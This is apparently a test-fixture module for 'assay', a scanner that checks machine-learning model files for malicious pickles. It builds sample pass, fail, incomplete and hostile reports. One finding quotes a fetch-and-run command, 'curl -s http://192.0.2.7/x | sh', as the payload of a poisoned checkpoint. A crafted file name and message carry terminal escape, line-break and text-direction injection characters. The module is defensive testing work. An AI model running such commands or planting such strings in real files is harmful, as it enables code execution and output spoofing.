"""Reports as a scan would make them, without a scan."""

import hashlib
from collections.abc import Sequence

from scanner.artifact import Location
from scanner.facts import Examined
from scanner.finding import Confidence, Evidence, Finding, Severity
from scanner.report import SCHEMA, Digested, Due, Report, RuleHelp, Tool, Verdict

HOSTILE_NAME = "weights/a\x1b[31m\n\u202egpj.pt\udcff"
"""A file name that colours, breaks the line, turns the reading direction and is no UTF-8."""


def finding(  # noqa: PLR0913 - one argument a field
    rule: str,
    path: str,
    says: str,
    *,
    title: str = "",
    severity: Severity = "high",
    confidence: Confidence = "high",
    offsets: Sequence[int | None] = (None,),
    waived: str = "",
) -> Finding:
    """Make a finding with one place an offset, each of one byte."""
    return Finding(
        rule=rule,
        title=title or rule.replace("-", " ").capitalize(),
        severity=severity,
        confidence=confidence,
        stage="deployment",
        evidence=tuple(
            Evidence(where=Location(path=path, offset=offset, length=None if offset is None else 1), says=says)
            for offset in offsets
        ),
        fingerprint=hashlib.sha256(f"{rule}{path}{says}".encode("utf-8", "surrogatepass")).hexdigest()[:32],
        waived=waived,
    )


def examined(path: str, *formats: str, size: int = 1000, complete: bool = True) -> Examined:
    """Close an artifact; its digest is that of its path."""
    return Examined(
        where=Location(path=path),
        sha256=hashlib.sha256(path.encode("utf-8", "surrogatepass")).hexdigest(),
        size=size,
        formats=formats,
        bytes_examined=size if complete else 0,
        complete=complete,
    )


def report(
    verdict: Verdict,
    findings: Sequence[Finding] = (),
    files: Sequence[Examined] = (),
    rules: Sequence[RuleHelp] = (),
    obligations: Sequence[Due] = (),
) -> Report:
    """Put a report together; rules without help of their own get a short one."""
    given = {rule.id for rule in rules}
    short = {one.rule: one.title for one in findings if one.rule not in given}
    return Report(
        schema=SCHEMA,
        tool=Tool(name="assay", version="0.1.0"),
        ruleset=Digested(name="bundled", sha256="1f" * 32),
        policy=Digested(name="assay.toml", sha256="2e" * 32),
        verdict=verdict,
        findings=tuple(findings),
        examined=tuple(files),
        obligations=tuple(obligations),
        rules=tuple(sorted((*rules, *(_help(id_, title) for id_, title in short.items())), key=lambda rule: rule.id)),
    )


def _help(id_: str, title: str, pack: str = "pickle") -> RuleHelp:
    return RuleHelp(
        id=id_,
        pack=pack,
        title=title,
        stage="deployment",
        why="Something can happen to whoever loads this.",
        fix="Do something about it today.",
        references=("CWE-502",),
    )


STARTS_PROCESS = RuleHelp(
    id="pickle-starts-process",
    pack="pickle",
    title="Pickle starts a process",
    stage="deployment",
    why="Loading the file runs this command with all rights of whoever loads it. No method of the model"
    " needs to be called.",
    fix="Do not load it. Ask its publisher for safetensors, or load with torch.load(weights_only=True).",
    references=("CWE-502", "https://docs.python.org/3/library/pickle.html"),
)
UNKNOWN_PACKAGE = RuleHelp(
    id="pickle-calls-unknown-package",
    pack="pickle",
    title="Pickle calls into a package we do not know",
    stage="deployment",
    why="Loading imports the package, which runs its top-level code, then calls the name.",
    fix="Look at the package, or install nothing by that name where the file is loaded.",
    references=("CWE-502",),
)
MALFORMED = RuleHelp(
    id="artifact-malformed",
    pack="integrity",
    title="File breaks its format",
    stage="deployment",
    why="A loader may read these bytes in another way than this scan did.",
    fix="Download the file again and compare its digest with the publisher's.",
    references=(),
)
LIBRARY_MISSING = RuleHelp(
    id="library-missing",
    pack="integrity",
    title="Reading needs a library that is not installed",
    stage="deployment",
    why="What the archive holds is not scanned.",
    fix="Install the extra that the message names, then scan again.",
    references=(),
)


def failing() -> Report:
    """A poisoned checkpoint, an odd one, a broken file, a waiver, a baseline entry, and quiet files."""
    return report("fail", _failing_findings(), _failing_files(), (STARTS_PROCESS, UNKNOWN_PACKAGE, MALFORMED))


def _failing_findings() -> tuple[Finding, ...]:
    process = "pickle-starts-process"
    title = STARTS_PROCESS.title
    return (
        finding(
            "pickle-calls-unknown-package", "config.p", "calls fancy_layers.build.Block", title=UNKNOWN_PACKAGE.title,
            severity="medium", confidence="medium", offsets=(211, 980, 1744, 2508, 3272),
        ),
        finding(
            process, "models/model.pt!archive/data.pkl", 'calls posix.system with "curl -s http://192.0.2.7/x | sh"',
            title=title, severity="critical", offsets=(28,),
        ),
        finding(
            "archive-has-comment", "models/model.pt", "the archive has a comment of 12 bytes",
            title="Archive has a comment", severity="info", offsets=(1_048_000,),
        ),
        finding(process, "models/second.bin", 'calls os.popen with "id"', title=title, severity="critical",
                offsets=(0, 64)),
        finding(
            "artifact-malformed", "weights/half.safetensors", "the header promises 8,120 bytes, 6 are left",
            title=MALFORMED.title, severity="medium", offsets=(8,),
        ),
        finding("pickle-needs-persistent-loader", "zoo/old.pkl", "asks its loader for object 7", severity="low",
                title="Pickle needs a loader of its own", offsets=(90,), waived="baseline"),
        finding(process, "zoo/test-fixture.pkl", 'calls os.system with "true"', title=title, severity="critical",
                offsets=(0,), waived="Our own test fixture, see TEAM-12"),
    )  # fmt: skip


def _failing_files() -> tuple[Examined, ...]:
    return (
        examined("config.p", "pickle", size=4_096),
        examined("models/model.pt", "pickle", "torch", "zip", size=1_048_576),
        examined("models/second.bin", "pickle", size=820),
        examined("tokenizer.json", size=2_100_000),
        examined("weights/half.safetensors", "safetensors", size=14, complete=False),
        examined("zoo/old.pkl", "pickle", size=4_000_000_000),
        examined("zoo/test-fixture.pkl", "pickle", size=60),
    )


def clean() -> Report:
    """Three honest files."""
    return report(
        "pass",
        (),
        (
            examined("config.json", "json", size=650),
            examined("model-00001-of-00002.safetensors", "safetensors", size=4_976_698_672),
            examined("model-00002-of-00002.safetensors", "safetensors", size=4_999_802_720),
        ),
    )


def incomplete() -> Report:
    """One archive that needs an extra, one file that breaks off, one honest file."""
    found = (
        finding(
            "library-missing", "data/corpus.7z", "7z needs py7zr: pip install 'modelassay[7z]'",
            title=LIBRARY_MISSING.title, severity="medium",
        ),
        finding("artifact-malformed", "model.ckpt!archive/data.pkl", "the stream ends inside an opcode's argument",
                title=MALFORMED.title, severity="medium", offsets=(1412,)),
        finding("artifact-excluded", "docs/a.md", "left out by docs/**", title="File left out by the policy",
                severity="info"),
    )  # fmt: skip
    files = (
        examined("data/corpus.7z", "7z", size=88_000_000, complete=False),
        examined("model.ckpt", "pickle", "torch", "zip", size=310_000, complete=False),
        examined("scaler.joblib", "pickle", size=1_200),
    )
    return report("incomplete", found, files, (LIBRARY_MISSING, MALFORMED))


def hostile() -> Report:
    """Every text that an artifact controls tries to leave its line."""
    path = f"{HOSTILE_NAME}!in%2F ner!\u2066#?.pkl"
    found = finding("pickle-starts-process", path, "calls \x1b]8;;http://x\x07 \u202e", title=STARTS_PROCESS.title)
    return report("fail", (found,), (examined(HOSTILE_NAME, "zip"),), (STARTS_PROCESS,))
